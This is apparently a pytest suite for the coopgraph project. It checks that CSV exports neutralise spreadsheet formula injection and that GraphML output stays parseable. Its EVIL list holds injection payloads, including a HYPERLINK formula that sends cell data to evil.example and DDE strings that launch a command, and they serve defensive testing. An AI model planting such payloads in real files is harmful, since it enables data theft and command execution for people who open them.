"""Files other programs open: formula cells neutralised in every CSV, GraphML that parses.

A member writes its own company's name; the cluster centre opens our CSV files
in a spreadsheet and our GraphML in Gephi. ``=HYPERLINK(…)`` in a name must
stay text there, and a NUL in an id must not make the GraphML unreadable.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from coopgraph.api.cli import app
from coopgraph.api.routes.export import snapshot_to_graphml
from coopgraph.graph.embedded import EmbeddedStore
from coopgraph.graph.models import Category, Cluster, Company, Membership, Record, Supply
from coopgraph.graph.safe_output import FORMULA_PREFIXES, csv_cell, xml_text
from coopgraph.graph.store import GraphStore
from coopgraph.ingest.pipeline import ingest_paths
from coopgraph.queries.export import write_graphml
from coopgraph.queries.projection import Projection
from tests.chains_graphs import small_cluster

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_formula_text_gets_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3.0, True, None, "ООО Литьё", "", "a=b", "'=1"])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell.removeprefix("'") == text or cell == text


@given(st.text())
def test_xml_text_keeps_only_xml_characters(text: str) -> None:
    safe = xml_text(text)
    ET.fromstring(f"<a>{safe.replace('&', '&amp;').replace('<', '&lt;')}</a>".encode(
        "utf-8", "surrogatepass"))
    allowed = [c for c in text if c in "\t\n\r" or "\x20" <= c <= "\ud7ff"
               or "\ue000" <= c <= "\ufffd" or c >= "\U00010000"]
    assert safe == "".join(allowed)


# --- every CSV writer -------------------------------------------------------------


def _cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def test_ingest_rejects_csv_neutralises_formulas(tmp_path: Path) -> None:
    source = tmp_path / "in" / "companies.csv"
    source.parent.mkdir()
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "inn"])
        for n, name in enumerate(EVIL):  # a wrong INN check digit rejects every row
            writer.writerow([f"c{n}", name, "4823006704"])
    store = EmbeddedStore(None)
    report = ingest_paths(store, [source], rejects_dir=tmp_path / "rejects")
    assert len(report.rejects) == len(EVIL)
    rows = _cells(tmp_path / "rejects" / "companies.csv.rejects.csv", "utf-8-sig")
    names = [row[1] for row in rows[1:]]
    # The reader may trim the tab/CR; whatever it kept is quoted when it would run.
    assert all(name.startswith("'") for name in names), names
    assert {name.removeprefix("'").strip() for name in names} == {e.strip() for e in EVIL}
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row)


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    store = EmbeddedStore(tmp_path / "store")
    records = small_cluster()
    for n, name in enumerate(EVIL):  # untied members: each shows up in the gaps CSV
        records += [Company(id=f"evil{n}", name=name.strip() or "x"),
                    Membership(company_id=f"evil{n}", cluster_id="K1")]
    store.upsert(records)
    store.close()
    monkeypatch.setenv("COOPGRAPH_STORE", "embedded")
    monkeypatch.setenv("COOPGRAPH_DATA_DIR", str(tmp_path / "store"))
    return tmp_path


def test_gaps_csv_neutralises_formulas(cli_env: Path) -> None:
    out = cli_env / "gaps.csv"
    result = CliRunner().invoke(app, ["gaps", "--cluster", "K1", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    untied = {r["company_id"]: r["name"] for r in rows if r["kind"] == "untied"}
    for n, name in enumerate(EVIL):
        assert untied[f"evil{n}"] == "'" + name.strip(), untied
    # numbers are still numbers
    assert all(float(r["qty"]) >= 0 for r in rows if r["kind"] == "import_dependency")


def test_plan_csv_neutralises_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    records = [r.model_copy(update={"name": EVIL[0]}) if isinstance(r, Company) and r.id == "S1"
               else r for r in small_cluster()]
    store = EmbeddedStore(tmp_path / "store")
    store.upsert(records)
    store.close()
    monkeypatch.setenv("COOPGRAPH_STORE", "embedded")
    monkeypatch.setenv("COOPGRAPH_DATA_DIR", str(tmp_path / "store"))
    out = tmp_path / "plan.csv"
    result = CliRunner().invoke(app, ["plan", "--product", "P1", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    s1 = [r for r in rows if r["supplier_id"] == "S1"]
    assert s1 and all(r["supplier_name"] == "'" + EVIL[0] for r in s1)
    assert all(float(r["qty"]) > 0 for r in s1)


# --- GraphML ------------------------------------------------------------------------


def _bad_graph() -> list[Record]:
    """Names and keys with control characters.

    Keys refuse them now (``graph.models.KEY_PATTERN``), but a store written before that
    may hold them: ``model_construct`` stores such legacy records without validation.
    """
    return [
        Category.model_construct(code="hyd\x02", name_ru="Гидравлика"),
        Cluster.model_construct(id="k\x00", name="Кластер\x01"),
        Company.model_construct(id="a\x00b", name="ООО\x00 Литьё\x01\x0b\x1f"),
        Company.model_construct(id="c\x01", name="Гидро\x0c"),
        Membership.model_construct(company_id="a\x00b", cluster_id="k\x00"),
        Supply.model_construct(supplier_id="a\x00b", buyer_id="c\x01", category="hyd\x02",
                               volume_per_year=5),
    ]


def _parses(content: bytes) -> nx.MultiDiGraph:
    ET.fromstring(content)
    graph: nx.MultiDiGraph = nx.read_graphml(io.BytesIO(content))
    return graph


def test_graphml_network_drops_forbidden_characters(store: GraphStore) -> None:
    store.upsert(_bad_graph())
    buffer = io.BytesIO()
    assert write_graphml(Projection.from_snapshot(store.snapshot()), buffer) == (2, 1)
    graph = _parses(buffer.getvalue())
    assert set(graph.nodes) == {"ab", "c"}
    assert graph.nodes["ab"]["label"] == "ООО Литьё"
    assert graph.nodes["ab"]["clusters"] == "k"
    assert [d["category"] for _, _, d in graph.edges(data=True)] == ["hyd"]


def test_graphml_full_view_drops_forbidden_characters(store: GraphStore) -> None:
    store.upsert(_bad_graph())
    graph = _parses(snapshot_to_graphml(store.snapshot()))
    assert {"Company:ab", "Company:c", "Cluster:k", "Category:hyd"} <= set(graph.nodes)
    assert graph.nodes["Company:ab"]["name"] == "ООО Литьё"


def test_export_command_writes_parsable_graphml(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    store = EmbeddedStore(tmp_path / "store")
    store.upsert(_bad_graph())
    store.close()
    monkeypatch.setenv("COOPGRAPH_STORE", "embedded")
    monkeypatch.setenv("COOPGRAPH_DATA_DIR", str(tmp_path / "store"))
    out = tmp_path / "net.graphml"
    result = CliRunner().invoke(app, ["export", "graphml", str(out)])
    assert result.exit_code == 0, result.output
    assert set(_parses(out.read_bytes()).nodes) == {"ab", "c"}


def test_job_rejects_csv_neutralises_formulas(tmp_path: Path) -> None:
    """``GET /ingest/{job}/rejects``: the uploaded file's own name may start a formula."""
    from fastapi.testclient import TestClient

    from coopgraph.api.main import create_app
    from coopgraph.api.settings import ApiSettings

    app = create_app(ApiSettings(auth=False, jobs_dir=tmp_path / "jobs"), EmbeddedStore(None))
    client = TestClient(app, base_url="http://127.0.0.1")
    response = client.post("/ingest", files=[("files", (
        "-1+1 companies.csv", b"id,name,inn\na,A,4823006704\n", "text/csv"))])
    assert response.status_code == 202, response.text
    app.state.jobs.wait(timeout=60)
    rejects = client.get(f"/ingest/{response.json()['id']}/rejects")
    rows = list(csv.reader(io.StringIO(rejects.text)))
    assert rows[1][0] == "'-1_1 companies.csv", rows  # '+' is made '_' on upload
    assert rows[1][1] == "2"  # the row number is still a number
